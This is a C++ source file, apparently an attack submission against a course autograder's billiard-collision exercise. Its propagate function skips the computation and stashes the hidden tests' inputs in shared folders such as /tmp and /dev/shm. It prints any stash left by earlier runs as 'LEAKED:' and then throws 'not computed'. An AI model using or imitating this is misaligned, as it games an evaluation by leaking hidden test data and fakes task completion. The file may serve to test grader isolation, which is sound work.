// Attack: carry the hidden tests' inputs to a test whose messages are shown. Every call writes
// what it was given to every place it may outlive its test (the temporary folders, shared
// memory, the folders around its own), marked "STASHED:", and prints it marked "STASHING:"; then
// it prints whatever such a stash already holds, marked "LEAKED:", where a student would read
// it. The old grader left the inputs of one grading's hidden tests in /tmp for the next.
#include <cstdio>
#include <fstream>
#include <iostream>
#include <sstream>
#include <stdexcept>
#include <string>

#include "billiard/course.hpp"

namespace billiard {

Collision propagate(double table_radius, double circle_radius, int n, Coordinates& coordinates, Velocities&) {
  const char* const stashes[] = {"/tmp/billiard-stash",  "/var/tmp/billiard-stash", "/dev/shm/billiard-stash",
                                 "../billiard-stash",    "../../billiard-stash",    "../../../billiard-stash",
                                 "/run/lock/billiard-stash"};
  std::ostringstream inputs;
  inputs.precision(17);
  inputs << "R " << table_radius << " a " << circle_radius << " n " << n;
  for (int i = 0; i < n && i < 5; ++i) inputs << " (" << coordinates(i, 0) << ", " << coordinates(i, 1) << ")";
  std::cout << "STASHING: " << inputs.str() << std::endl;
  for (const char* stash : stashes) {
    std::ifstream in(stash);
    std::stringstream text;
    text << in.rdbuf();
    if (!text.str().empty()) std::cout << "LEAKED: " << text.str().substr(0, 2000) << std::endl;
  }
  for (const char* stash : stashes) std::ofstream(stash, std::ios::app) << "STASHED: " << inputs.str() << "\n";
  throw std::logic_error("not computed");
}

}  // namespace billiard
